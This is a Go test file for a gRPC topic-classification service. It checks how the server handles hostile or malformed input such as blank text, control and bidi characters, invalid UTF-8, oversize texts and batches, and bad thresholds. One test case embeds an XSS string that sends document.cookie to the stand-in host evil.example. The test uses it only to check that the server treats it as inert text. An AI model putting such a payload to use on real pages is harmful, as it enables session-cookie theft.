package main

import (
	"context"
	"errors"
	"math"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"

	"github.com/seed134e4861/topicd/model/naivebayes"
	topicdv1 "github.com/seed134e4861/topicd/proto/topicd/v1"
)

// onTopicText is a sentence the seed model assigns topics to: more known
// words than naivebayes.MinKnownFeatures, so it does not abstain.
const onTopicText = "Le candidat Donald Trump a affirmé que sa campagne électorale avait été victime " +
	"d’un piratage orchestré par le gouvernement iranien, selon Microsoft."

// repeatTo repeats s, each time followed by a space, as often as it fits in n
// bytes, and pads the result with spaces to exactly n bytes.
func repeatTo(s string, n int) string {
	text := strings.Repeat(s+" ", n/(len(s)+1))
	return text + strings.Repeat(" ", n-len(text))
}

// checkAnswer checks what every answer to a valid text obeys, whatever the
// text: one score for each topic of the model, a probability in [0, 1], most
// probable first; assigned topics taken from the scores, in their order, at
// or above the threshold, and none when the model abstained; no more known
// tokens than tokens; the model's version; evidence only when explain was
// asked for, at most naivebayes.ExplainFeatures weights each way.
func checkAnswer(tb testing.TB, call string, r *topicdv1.ClassifyResponse, topics []string, version string, explain bool) {
	tb.Helper()
	scores := r.GetScores()
	var scored []string
	for i, s := range scores {
		scored = append(scored, s.GetTopic())
		if p := s.GetProbability(); !(p >= 0 && p <= 1) {
			tb.Errorf("%s score of %s = %v, want a probability in [0, 1]", call, s.GetTopic(), p)
		}
		if i > 0 && scores[i-1].GetProbability() < s.GetProbability() {
			tb.Errorf("%s scores %v, want most probable first", call, scores)
		}
		up, down := 0, 0
		for _, e := range s.GetEvidence() {
			if e.GetWeight() > 0 {
				up++
			} else {
				down++
			}
		}
		if (!explain && up+down > 0) || up > naivebayes.ExplainFeatures || down > naivebayes.ExplainFeatures {
			tb.Errorf("%s (explain %v) score of %s has %d weights for and %d against, want none without explain, at most %d each way with it",
				call, explain, s.GetTopic(), up, down, naivebayes.ExplainFeatures)
		}
	}
	if slices.Sort(scored); !slices.Equal(scored, topics) {
		tb.Errorf("%s scored topics %q, want one score for each of %q", call, scored, topics)
	}
	// Assigned topics are a prefix of the scores, above the threshold.
	threshold := r.GetThreshold()
	if !(threshold > 0 && threshold <= 1) {
		tb.Errorf("%s.Threshold = %v, want one in (0, 1]", call, threshold)
	}
	for i, topic := range r.GetTopics() {
		if i >= len(scores) || scores[i].GetTopic() != topic || scores[i].GetProbability() < threshold {
			tb.Errorf("%s.Topics = %q, want topics of the scores %v at or above the threshold %v, in their order", call, r.GetTopics(), scores, threshold)
			break
		}
	}
	if r.GetAbstained() && len(r.GetTopics()) > 0 {
		tb.Errorf("%s = {abstained: true, topics: %q}, want no topic when the model abstains", call, r.GetTopics())
	}
	if n, known := r.GetTokens(), r.GetKnownTokens(); known < 0 || known > n {
		tb.Errorf("%s = {tokens: %d, known_tokens: %d}, want 0 <= known_tokens <= tokens", call, n, known)
	}
	if r.GetModelVersion() != version {
		tb.Errorf("%s.ModelVersion = %q, want %q", call, r.GetModelVersion(), version)
	}
}

// TestHostileInput sends hostile input through the real RPC path, with the
// flags' default limits (1 MiB texts, 256 texts a batch): each call gets the
// code the README documents or a normal answer, and the server keeps
// serving. Valid UTF-8 that is not blank is always answered, however odd:
// what carries no word gets no token and abstains.
func TestHostileInput(t *testing.T) {
	c, conn := newTestClient(t)
	ctx := testContext(t)
	info, err := c.GetModelInfo(ctx, &topicdv1.GetModelInfoRequest{})
	if err != nil {
		t.Fatal(err)
	}
	l := defaultLimits
	m := mustSeedModel(t)
	onTopic, err := m.Classify(onTopicText)
	if err != nil || len(onTopic.Topics) == 0 {
		t.Fatalf("Classify(%q) = %v, %v; want some topics", onTopicText, onTopic, err)
	}

	type answers = []*topicdv1.ClassifyResponse
	call := func(req *topicdv1.ClassifyRequest) func() (answers, error) {
		return func() (answers, error) {
			r, err := c.Classify(ctx, req)
			return answers{r}, err
		}
	}
	classify := func(text string) func() (answers, error) { return call(&topicdv1.ClassifyRequest{Text: text}) }
	withThreshold := func(threshold float64) func() (answers, error) {
		return call(&topicdv1.ClassifyRequest{Text: onTopicText, Threshold: proto.Float64(threshold)})
	}
	batch := func(texts ...string) func() (answers, error) {
		return func() (answers, error) {
			r, err := c.ClassifyBatch(ctx, &topicdv1.ClassifyBatchRequest{Texts: texts})
			if err == nil && len(r.GetResults()) != len(texts) {
				t.Errorf("ClassifyBatch(%d texts) gave %d results, want one per text", len(texts), len(r.GetResults()))
			}
			return r.GetResults(), err
		}
	}
	// raw sends ClassifyRequest{text: text} encoded by hand, bypassing the
	// client codec's UTF-8 check.
	raw := func(text string) func() (answers, error) {
		return func() (answers, error) {
			req := rawMessage(protowire.AppendString(protowire.AppendTag(nil, 1, protowire.BytesType), text))
			var resp rawMessage
			if err := conn.Invoke(ctx, classifyMethod, req, &resp, grpc.ForceCodec(rawCodec{})); err != nil {
				return nil, err
			}
			r := new(topicdv1.ClassifyResponse)
			return answers{r}, proto.Unmarshal(resp, r)
		}
	}
	many := func(n int, text string) []string { return slices.Repeat([]string{text}, n) }
	words := strings.Fields(onTopicText)
	between := func(sep string) string { return strings.Join(words, sep) }

	// Checks of answers beyond checkAnswer.
	abstains := func(t *testing.T, r *topicdv1.ClassifyResponse) {
		if !r.GetAbstained() || r.GetTokens() != 0 {
			t.Errorf("got {abstained: %v, tokens: %d}, want abstained with no token", r.GetAbstained(), r.GetTokens())
		}
	}
	// A sentence repeated gets the same topics, though not always in the
	// same order: probabilities that reach 1 tie, and ties go by name.
	asOnTopic := func(t *testing.T, r *topicdv1.ClassifyResponse) {
		if got, want := slices.Sorted(slices.Values(r.GetTopics())), slices.Sorted(slices.Values(onTopic.Topics)); !slices.Equal(got, want) {
			t.Errorf("got topics %q, want %q, those of the sentence alone", r.GetTopics(), onTopic.Topics)
		}
	}
	bounded := func(t *testing.T, r *topicdv1.ClassifyResponse) {
		if size := proto.Size(r); size > 4<<10 {
			t.Errorf("answer of %d bytes, want at most 4 KiB whatever the text's size", size)
		}
		if r.GetAbstained() || len(r.GetScores()) == 0 || len(r.GetScores()[0].GetEvidence()) == 0 {
			t.Errorf("got {abstained: %v, scores: %v}, want an explained answer", r.GetAbstained(), r.GetScores())
		}
	}

	atLimit := repeatTo(onTopicText, l.maxTextBytes)
	for _, tt := range []struct {
		name       string
		call       func() (answers, error)
		explain    bool
		wantCode   codes.Code
		wantFields []string                                     // the field violations of InvalidArgument
		check      func(*testing.T, *topicdv1.ClassifyResponse) // more checks of each answer
	}{
		{"empty", classify(""), false, codes.InvalidArgument, []string{"text"}, nil},
		{"ASCII spaces, tabs, newlines", classify(" \t\n\r\v\f "), false, codes.InvalidArgument, []string{"text"}, nil},
		{"NBSP, ideographic space", classify("\u00a0\u3000\u00a0"), false, codes.InvalidArgument, []string{"text"}, nil},
		{"NEL, em space, line separator", classify("\u0085\u2003\u2028"), false, codes.InvalidArgument, []string{"text"}, nil},
		{"NUL bytes only", classify("\x00\x00\x00"), false, codes.OK, nil, abstains},
		{"NUL bytes between words", classify(between("\x00")), false, codes.OK, nil, asOnTopic},
		{"invalid UTF-8, generated client", classify("Anonymous \xff\xfe attaque"), false, codes.Internal, nil, nil},
		{"invalid UTF-8, raw bytes", raw("Anonymous \xff\xfe attaque"), false, codes.Internal, nil, nil},
		{"valid UTF-8, raw bytes", raw(onTopicText), false, codes.OK, nil, asOnTopic},
		{"max-text-bytes+1", classify(atLimit + "x"), false, codes.InvalidArgument, []string{"text"}, nil},
		{"max-text-bytes", classify(atLimit), false, codes.OK, nil, asOnTopic},
		{"C0 and C1 controls only", classify("\x01\x02\x07\x08\x1b\x7f\u0080\u009b\u009f"), false, codes.OK, nil, abstains},
		{"C0 and C1 controls between words", classify(between(" \x1b\x07\u009b ")), false, codes.OK, nil, asOnTopic},
		{"zero-width and bidi marks only", classify("\u200b\ufeff\u200c\u200d\u200e\u200f\u202a\u202e\u2066\u2069"), false, codes.OK, nil, abstains},
		{"zero-width and bidi marks between words", classify("\ufeff\u202e" + between(" \u200b\u200f ")), false, codes.OK, nil, asOnTopic},
		{"zero-width and bidi marks inside words", classify("Ano\u200bnymous pi\ufeffrate la cam\u200fpagne élec\u202etorale"), false, codes.OK, nil, nil},
		{"emoji only", classify("🔥💀🏴\u200d☠️👩🏽\u200d💻🇫🇷"), false, codes.OK, nil, abstains},
		{"emoji between words", classify(between(" 🔥🏴\u200d☠️ ")), false, codes.OK, nil, asOnTopic},
		{"digits only", classify("0 12 2024 1234567890 ４２ ٣٤"), false, codes.OK, nil, nil},
		{"HTML and scripts around a sentence", classify(`<html><head><script>alert("x");document.location='//evil.example/?c='+document.cookie</script></head>` +
			`<body><p onclick="steal()">` + onTopicText + `</p><script src="evil.js"></script></body></html>`), false, codes.OK, nil, asOnTopic},
		{"1 MiB single word", classify(strings.Repeat("a", l.maxTextBytes)), false, codes.OK, nil, abstains},
		{"explain on 1 MiB", call(&topicdv1.ClassifyRequest{Text: atLimit, Explain: true}), true, codes.OK, nil, bounded},
		{"threshold NaN", withThreshold(math.NaN()), false, codes.InvalidArgument, []string{"threshold"}, nil},
		{"threshold +Inf", withThreshold(math.Inf(1)), false, codes.InvalidArgument, []string{"threshold"}, nil},
		{"threshold -Inf", withThreshold(math.Inf(-1)), false, codes.InvalidArgument, []string{"threshold"}, nil},
		{"batch with one blank item", batch(onTopicText, "\x00", "\u3000", onTopicText), false, codes.InvalidArgument, []string{"texts[2]"}, nil},
		{"batch with one oversize item", batch(onTopicText, atLimit+"x"), false, codes.InvalidArgument, []string{"texts[1]"}, nil},
		{"batch of max-batch+1", batch(many(l.maxBatch+1, onTopicText)...), false, codes.InvalidArgument, []string{"texts"}, nil},
		{"batch of max-batch", batch(many(l.maxBatch, onTopicText)...), false, codes.OK, nil, asOnTopic},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, err := tt.call()
			if code := status.Code(err); code != tt.wantCode {
				t.Fatalf("%s = %v, want code %v", tt.name, err, tt.wantCode)
			}
			if fields := fieldViolations(err); !slices.Equal(fields, tt.wantFields) {
				t.Errorf("%s = %v with field violations %q, want %q", tt.name, err, fields, tt.wantFields)
			}
			if err != nil {
				return
			}
			for _, r := range got {
				checkAnswer(t, tt.name, r, info.GetTopics(), info.GetVersion(), tt.explain)
				if tt.check != nil {
					tt.check(t, r)
				}
			}
		})
	}

	got, err := c.Classify(ctx, &topicdv1.ClassifyRequest{Text: onTopicText})
	if err != nil || !slices.Equal(got.GetTopics(), onTopic.Topics) {
		t.Errorf("Classify(%q) after the hostile input = %v, %v; want topics %q: the server still serving", onTopicText, got, err, onTopic.Topics)
	}
}

// TestBatchDeadline sends a batch far too large to classify within its
// deadline: the call ends DeadlineExceeded, wherever the deadline finds it
// (sending, or classifying: see TestServiceBatchStops for the handler), and
// the server keeps serving.
func TestBatchDeadline(t *testing.T) {
	l := limits{maxTextBytes: 256 << 10, maxBatch: 256}
	c, _ := newTestClient(t, withLimits(l))
	ctx := testContext(t)
	texts := slices.Repeat([]string{repeatTo(onTopicText, l.maxTextBytes)}, l.maxBatch)
	short, cancel := context.WithTimeout(ctx, time.Millisecond)
	defer cancel()
	if _, err := c.ClassifyBatch(short, &topicdv1.ClassifyBatchRequest{Texts: texts}); status.Code(err) != codes.DeadlineExceeded {
		t.Errorf("ClassifyBatch(%d texts of %d bytes) with a 1 ms deadline = %v, want code DeadlineExceeded", len(texts), l.maxTextBytes, err)
	}
	if _, err := c.Classify(ctx, &topicdv1.ClassifyRequest{Text: onTopicText}); err != nil {
		t.Errorf("Classify after a batch past its deadline = %v, want the server still serving", err)
	}
}

// endingContext is a context that is live for its first live checks of Err
// and ended with err from then on: a deadline that passes, or a cancel,
// between two texts of a batch, at a point chosen without timing.
type endingContext struct {
	context.Context
	live atomic.Int64
	err  error
	once sync.Once
	done chan struct{}
}

func endAfter(live int64, err error) *endingContext {
	c := &endingContext{Context: context.Background(), err: err, done: make(chan struct{})}
	c.live.Store(live)
	return c
}

func (c *endingContext) Done() <-chan struct{} { return c.done }

func (c *endingContext) Err() error {
	if c.live.Add(-1) >= 0 {
		return nil
	}
	c.once.Do(func() { close(c.done) })
	return c.err
}

// TestServiceBatchStops checks that the ClassifyBatch handler checks its
// context between texts: when the deadline passes or the call is cancelled
// after some texts were classified, it stops there with DeadlineExceeded or
// Canceled instead of answering.
func TestServiceBatchStops(t *testing.T) {
	svc := NewService(defaultLimits)
	svc.SetModel(mustSeedModel(t))
	texts := slices.Repeat([]string{onTopicText}, 8)
	for _, end := range []struct {
		err  error
		want codes.Code
	}{
		{context.DeadlineExceeded, codes.DeadlineExceeded},
		{context.Canceled, codes.Canceled},
	} {
		for live := range int64(len(texts)) {
			_, err := svc.ClassifyBatch(endAfter(live, end.err), &topicdv1.ClassifyBatchRequest{Texts: texts})
			if got := status.Code(err); got != end.want {
				t.Errorf("Service.ClassifyBatch(%d texts) with a context ending (%v) after %d checks = %v, want code %v",
					len(texts), end.err, live, err, end.want)
			}
		}
	}
	if _, err := svc.ClassifyBatch(endAfter(math.MaxInt64, errors.New("never")), &topicdv1.ClassifyBatchRequest{Texts: texts}); err != nil {
		t.Errorf("Service.ClassifyBatch(%d texts) with a live context = %v, want OK", len(texts), err)
	}
}
